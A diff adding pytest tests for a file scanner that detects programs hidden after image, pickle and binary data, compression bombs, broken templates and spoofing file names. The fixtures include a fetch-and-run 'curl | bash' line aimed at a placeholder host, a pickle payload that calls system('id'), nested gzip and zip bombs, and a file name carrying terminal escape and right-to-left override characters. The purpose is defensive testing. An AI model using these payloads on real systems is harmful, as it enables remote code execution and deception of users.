@@ -1,0 +1,89 @@
+"""What a hostile review of the scanner tried as input: each test is named after the fault that it found.
+
+Success rate after the fixes: 0 of the attempts below pass.
+"""
+
+from __future__ import annotations
+
+import gzip
+import io
+import pickle
+import struct
+import zipfile
+import zlib
+from pathlib import Path
+
+import pytest
+from rich.console import Console
+
+from fastness.core.sources import BytesSource
+from fastness.interfaces.cli.scanning.verdicts import print_reports
+from fastness.models.scan import Outcome, Scanner, pool
+from tests.unit.models.scan.artifacts import report_of, rules_of
+
+ELF = (
+    b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
+)
+ELF += struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 120, 120, 4096) + bytes(64)
+SCRIPT = b"#!/bin/bash\ncurl -s http://192.0.2.1/x | bash\n"
+PROGRAMS = pytest.mark.parametrize("program", [ELF, SCRIPT], ids=["elf", "script"])
+
+
+def png(*, data_length: int = -1) -> bytes:
+    parts = ((b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)), (b"IDAT", zlib.compress(b"\0\0")), (b"IEND", b""))
+    whole = b"\x89PNG\r\n\x1a\n"
+    for kind, data in parts:
+        length = data_length if kind == b"IDAT" and data_length >= 0 else len(data)
+        whole += struct.pack(">I", length) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+    return whole
+
+
+# ---------------------------------------------------------------- programs where no reader looked
+@PROGRAMS
+@pytest.mark.parametrize(
+    ("name", "before"), [("a.png", png()), ("a.pkl", pickle.dumps([1])), ("a.bin", bytes([7, 1, 9, 200] * 9))]
+)
+def test_a_program_behind_what_a_reader_knows_blocks(name: str, before: bytes, program: bytes) -> None:
+    report = report_of(before + program, name)
+    assert report.outcome is Outcome.BLOCK
+    assert "executable-hidden" in rules_of(report)
+
+
+@PROGRAMS
+def test_a_program_in_a_part_that_a_picture_says_is_endless_blocks(program: bytes) -> None:
+    assert report_of(png(data_length=1 << 30) + program, "a.png").outcome is Outcome.BLOCK
+
+
+# ---------------------------------------------------------------- bombs
+def test_a_bomb_that_no_reader_knows_blocks_and_one_of_numbers_is_for_review() -> None:
+    filler = bytes(80 << 20)
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("a", filler)
+    for data in (gzip.compress(filler, 1), gzip.compress(gzip.compress(filler, 1)), packed.getvalue()):
+        assert report_of(data, "a").outcome is Outcome.BLOCK
+    header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (10485760,), }".ljust(117) + b"\n"
+    array = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + filler
+    assert report_of(gzip.compress(array, 1), "a.npy.gz").outcome is Outcome.REVIEW
+
+
+# ---------------------------------------------------------------- behind the locks
+@pytest.mark.parametrize("template", ["{{ '' ", "{% if a %}", "{% x", "{{ a b }}"])
+def test_a_broken_template_is_read_behind_the_locks_too(template: str) -> None:
+    with Scanner() as scanner:
+        report = scanner.scan(BytesSource("chat_template.jinja", template.encode()))
+    assert "reader-failed" not in rules_of(report)
+    assert report.outcome is not Outcome.PASS
+
+
+# ---------------------------------------------------------------- names
+def test_a_name_makes_no_lines_colours_or_directions_in_the_table(tmp_path: Path) -> None:
+    file = tmp_path / "a\npass       b.json  json\x1b[2K\u202egnp.pkl"
+    file.write_bytes(b"cposix\nsystem\n(S'id'\ntR.")
+    out = io.StringIO()
+    with Scanner() as scanner:
+        print_reports(Console(file=out), list(pool.scan_folders([file], pool.Bench(scanner))), [], explain=True)
+    told = out.getvalue()
+    assert not {"\x1b", "\u202e"} & set(told)
+    assert not any(line.startswith("pass") for line in told.splitlines())
+    assert r"a\npass" in told
